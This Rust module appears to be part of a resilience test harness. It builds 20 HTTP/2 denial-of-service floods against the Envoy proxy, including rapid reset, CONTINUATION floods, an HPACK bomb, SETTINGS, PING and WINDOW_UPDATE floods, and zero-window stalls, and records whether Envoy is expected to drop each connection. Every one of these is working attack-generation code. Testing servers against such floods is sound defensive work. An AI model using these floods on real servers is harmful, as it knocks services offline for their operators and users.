//! The attacks: what each sends, a batch at a time.

use crate::h2::{Line, encode, frame, header_frames, kind};

const PRIORITY_FRAME: u8 = 2;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

/// One attack.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// Name of the test.
    pub name: &'static str,
    /// Envoy ends the connection.
    pub ends: bool,
    /// Payload of the first SETTINGS.
    pub settings: &'static [u8],
    /// The next frames; `None` when nothing more is sent.
    pub batch: fn(&mut State) -> Option<Vec<u8>>,
}

/// How far an attack is.
#[derive(Debug)]
pub struct State {
    batches: usize,
    stream: u32,
}

impl Default for State {
    fn default() -> Self {
        Self { batches: 0, stream: 1 }
    }
}

impl State {
    /// A stream that was not used yet.
    fn next(&mut self) -> u32 {
        self.stream += 2;
        self.stream - 2
    }

    /// Counts a batch; false when there were so many already.
    fn goes_on(&mut self, most: usize) -> bool {
        self.batches += 1;
        self.batches <= most
    }

    /// The same frame 1,000 times, 200 times.
    fn repeat(&mut self, one: &[u8]) -> Option<Vec<u8>> {
        self.goes_on(200).then(|| one.repeat(1000))
    }

    /// The same behind a request whose body has not ended.
    fn repeat_in_request(&mut self, one: &[u8]) -> Option<Vec<u8>> {
        let mut bytes = if self.batches == 0 { open("/", 1, false) } else { vec![] };
        bytes.extend(self.repeat(one)?);
        Some(bytes)
    }
}

fn line(name: &str, value: &str) -> Line {
    (name.into(), value.into())
}

fn request(path: &str) -> Vec<Line> {
    vec![
        line(":method", "POST"),
        line(":scheme", "http"),
        line(":authority", "attack.example"),
        line(":path", path),
    ]
}

fn open(path: &str, stream: u32, end: bool) -> Vec<u8> {
    header_frames(stream, &request(path), end)
}

fn rst(stream: u32) -> Vec<u8> {
    frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// 100 streams at once, each made by `one`.
fn streams(state: &mut State, most: usize, one: fn(u32) -> Vec<u8>) -> Option<Vec<u8>> {
    state.goes_on(most).then(|| (0..100).flat_map(|_| one(state.next())).collect())
}

/// One entry of SETTINGS.
fn setting(id: u16, value: u32) -> Vec<u8> {
    [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

const fn attack(
    name: &'static str,
    ends: bool,
    batch: fn(&mut State) -> Option<Vec<u8>>,
) -> Attack {
    Attack { name, ends, settings: &[], batch }
}

/// All of them.
pub const ATTACKS: [Attack; 20] = [
    attack("rapid_reset", true, |state| {
        streams(state, 500, |id| [open("/", id, true), rst(id)].concat())
    }),
    attack("open_and_reset_slow_upstream", true, |state| {
        streams(state, 500, |id| [open("/slow", id, true), rst(id)].concat())
    }),
    attack("made_you_reset", true, |state| {
        streams(state, 500, |id| {
            [open("/", id, true), frame(kind::WINDOW_UPDATE, 0, id, &[0; 4])].concat()
        })
    }),
    // Envoy ends the connection; refusing all above the limit costs as little.
    attack("five_thousand_streams", false, |state| {
        streams(state, 50, |id| open("/slow", id, true))
    }),
    attack("empty_names", true, |state| {
        streams(state, 50, |id| {
            let mut lines = request("/");
            lines.extend((0..1000).map(|_| line("", "")));
            header_frames(id, &lines, true)
        })
    }),
    attack("reset_of_idle_streams", true, |state| streams(state, 500, rst)),
    attack("continuation_long", true, |state| {
        let part = encode(&[line("x-part", &"a".repeat(16_000))]);
        let first = (state.batches == 0)
            .then(|| frame(kind::HEADERS, END_STREAM, 1, &encode(&request("/"))));
        let more = frame(kind::CONTINUATION, 0, 1, &part);
        state.goes_on(2000).then(|| [first.unwrap_or_default(), more].concat())
    }),
    attack("continuation_empty", true, |state| {
        let first = (state.batches == 0)
            .then(|| frame(kind::HEADERS, END_STREAM, 1, &encode(&request("/"))));
        let more = frame(kind::CONTINUATION, 0, 1, &[]).repeat(1000);
        state.goes_on(200).then(|| [first.unwrap_or_default(), more].concat())
    }),
    attack("data_empty", true, |state| state.repeat_in_request(&frame(kind::DATA, 0, 1, &[]))),
    attack("data_padding_only", true, |state| {
        state.repeat_in_request(&frame(kind::DATA, PADDED, 1, &[4, 0, 0, 0, 0]))
    }),
    attack("settings", true, |state| state.repeat(&frame(kind::SETTINGS, 0, 0, &setting(3, 100)))),
    attack("settings_table_size", true, |state| {
        let swing = [setting(1, 0), setting(1, 4096)].concat();
        state.repeat(&frame(kind::SETTINGS, 0, 0, &swing))
    }),
    attack("ping", true, |state| state.repeat(&frame(kind::PING, 0, 0, &[7; 8]))),
    attack("priority", true, |state| state.repeat(&frame(PRIORITY_FRAME, 0, 1, &[0, 0, 0, 0, 16]))),
    attack("window_update", true, |state| {
        state.repeat_in_request(&frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
    }),
    attack("hpack_bomb", false, |state| {
        // One long line enters the table, then a block names it as often as a frame holds.
        let id = state.next();
        let mut block = encode(&request("/"));
        if state.batches == 0 {
            block.push(0x40);
            block.extend_from_slice(&encode(&[line("b", &"a".repeat(3900))])[1..]);
        }
        block.resize(16_000, 0xbe);
        let flags = END_STREAM | END_HEADERS;
        state.goes_on(2000).then(|| frame(kind::HEADERS, flags, id, &block))
    }),
    attack("cookie_crumbs", false, |state| {
        streams(state, 50, |id| {
            let mut lines = request("/");
            lines.extend((0..1000).map(|_| line("cookie", "a=b")));
            header_frames(id, &lines, true)
        })
    }),
    attack("unknown_frames", false, |state| state.repeat(&frame(0xfa, 0, 0, &[1, 2, 3]))),
    attack("goaway", false, |state| state.repeat(&frame(kind::GOAWAY, 0, 0, &[0; 8]))),
    Attack {
        name: "window_zero",
        ends: false,
        // SETTINGS_INITIAL_WINDOW_SIZE 0.
        settings: &[0, 4, 0, 0, 0, 0],
        batch: |state| streams(state, 1, |id| open("/large", id, true)),
    },
];
